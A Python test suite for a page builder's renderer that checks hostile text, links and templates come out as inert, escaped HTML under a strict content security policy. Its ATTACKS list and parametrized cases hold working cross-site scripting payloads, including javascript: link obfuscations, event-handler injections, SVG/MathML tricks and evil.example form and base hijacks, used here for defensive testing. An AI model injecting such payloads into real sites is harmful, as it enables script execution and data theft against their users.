"""Hostile input shows as text and does nothing."""

import base64
import hashlib
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import services.builder
from services.builder.render import Renderer
from tests.unit.builder.reading import BUTTON, EVERY_WIDGET, PICTURE, find, make_config, page, read, render

BUILDER = Path(services.builder.__file__).parent

LINKS = {"a": "href", "img": "src", "link": "href"}
SCHEMES = ("http://", "https://", "mailto:", "tel:")

# Every attribute a page may have, so that a new one is a decision.
GLOBAL = {"id", "class", "lang", "dir", "role", "tabindex", "aria-label", "aria-hidden"}
MEDIA = {"src", "width", "height", "alt", "loading", "decoding", "fetchpriority"}
HEAD = {"charset", "name", "content", "property", "rel", "type"}
ATTRIBUTES = GLOBAL | MEDIA | HEAD | {"href", "title", "scope", "start"}

ATTACKS = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.example)',
    "<svg/onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]( \u00a0javascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    '[a](/x "\\" onclick=alert(1) x=\\"")',
    "![a](x onerror=alert(1))",
    "![a](https://evil.example/pixel.gif)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<https://a.example/" onclick=alert(1)>',
    "<a href=javascript:alert(1)>a</a>",
    "\\<b>b</b> \\\\<b>b</b> \\\\\\<b>b</b>",
    "<a title='`'> `<b>` </a>",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "<table><tr><td><form action=//evil.example><input name=a></table>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% for a in b %}",
]


def everywhere(text: str) -> list[dict[str, Any]]:
    """A page with one text wherever an editor can write one."""
    line = " ".join(text.split())
    label = line[:80]
    picture = PICTURE | {"alt": line}
    button = {"text": label, "href": "/"}
    return [
        {"type": "hero", "title": line, "tagline": line, "body": text, "image": picture, "cta": button, "cta2": button},
        {"type": "text", "title": line, "body": text},
        {"type": "image", **picture, "caption": line},
        {"type": "features", "title": line, "items": [{"title": line, "body": text, "icon": line[:16]}]},
        {"type": "table", "title": line, "header": [label, label], "rows": [[line, line]]},
        {"type": "table", "header": [label], "rows": [[line]]},
        {"type": "faq", "title": line, "items": [{"question": line, "answer": text}]},
        {"type": "quote", "text": text, "name": label, "role": label},
        {"type": "cta", "title": line, "body": text, "button": button},
    ]


def assert_inert(html: str) -> None:
    """No script, no handler, no style, no address of a scheme that is not allowed; and all of it valid."""
    for element in read(html).iter():
        assert element.tag not in {"script", "iframe", "object", "embed", "form", "input", "base", "svg", "math"}
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        address = element.get(LINKS.get(str(element.tag), ""), "")
        scheme = re.match(r"[\s\x00-\x20]*[a-zA-Z][\w+.-]*\s*:", address)
        is_icon = element.get("rel") == "icon" and address.startswith("data:image/svg+xml,")
        assert is_icon or scheme is None or address.startswith(SCHEMES), address


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_is_inert_wherever_it_is_written(attack: str) -> None:
    line = " ".join(attack.split())

    rendered = Renderer().render(
        make_config(*everywhere(attack), title=line, description=line), "acme", "index", site_title=line
    )

    html = rendered.html.decode()
    assert_inert(html)
    assert len(read(html).findall(".//img")) == 2
    assert len(read(html).findall(".//style")) == 1


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_shows_as_it_was_typed(attack: str) -> None:
    line = " ".join(attack.split())

    root = page({"type": "table", "header": ["A"], "rows": [[line]]}, title=line)

    assert find(root, ".//td").text == line
    assert find(root, ".//h1").text == line


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                '"',
                "'",
                "`",
                "&",
                "\\",
                "[",
                "](",
                ")",
                "\n",
                " ",
                "a",
                "on",
                "=",
                "script",
                "b",
                "/",
                "!--",
                "javascript:",
                "https://x",
                "*",
                "#",
                "<b>",
                "\t",
            ]
        ),
        min_size=1,
    )
)
def test_no_mixture_of_signs_becomes_markup(parts: list[str]) -> None:
    body = "x" + "".join(parts)

    html = render({"type": "text", "body": body}, {"type": "faq", "items": [{"question": "Q", "answer": body}]})

    assert_inert(html)
    assert not read(html).findall(".//b")


@pytest.mark.parametrize(
    "href", ['/"><script>alert(1)</script>', "//evil/' onclick='x", 'https://a.example/?a=1&b="2"']
)
def test_an_address_stays_inside_its_attribute(href: str) -> None:
    button = BUTTON | {"href": href}

    html = render({"type": "cta", "title": "T", "button": button}, {"type": "hero", "title": "T", "cta": button})

    assert_inert(html)


def test_the_policy_allows_the_one_style_there_is_and_no_script() -> None:
    rendered = Renderer().render(make_config(*EVERY_WIDGET), "acme", "index")

    style = find(read(rendered.html.decode()), "head/style").text or ""
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    directives = dict(part.split(" ", 1) for part in rendered.csp.split("; "))
    assert directives == {
        "default-src": "'none'",
        "style-src": f"'sha256-{digest}'",
        "img-src": "http: https: data: 'self'",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'self'",
    }


def test_the_style_has_only_what_the_page_uses() -> None:
    plain, full = render({"type": "quote", "text": "a", "name": "b"}), render(*EVERY_WIDGET)

    assert ".quote" in plain
    assert ".faq" not in plain
    assert ".faq" in full
    assert full.count(".button:hover{transform:") == full.count(".prose hr{") == 1
    assert "@import" not in full


def test_templates_trust_no_text_and_quote_every_attribute() -> None:
    templates = {path.name: path.read_text() for path in BUILDER.glob("templates/*.html")}

    assert len(templates) == 9
    for name, source in templates.items():
        assert "|safe" not in source.replace(" ", ""), name
        assert "autoescape" not in source, name
        assert not re.search(
            r'=\{\{|=[^"\s{}=]+[\s>]', re.sub(r"{%.*?%}|{#.*?#}|%3C.*?%3E|content=\"[^\"]*\"", "", source)
        ), name


def test_text_becomes_markup_in_one_module_only() -> None:
    using = [path.name for path in BUILDER.rglob("*.py") if "Markup" in path.read_text()]

    assert using == ["markup.py"]
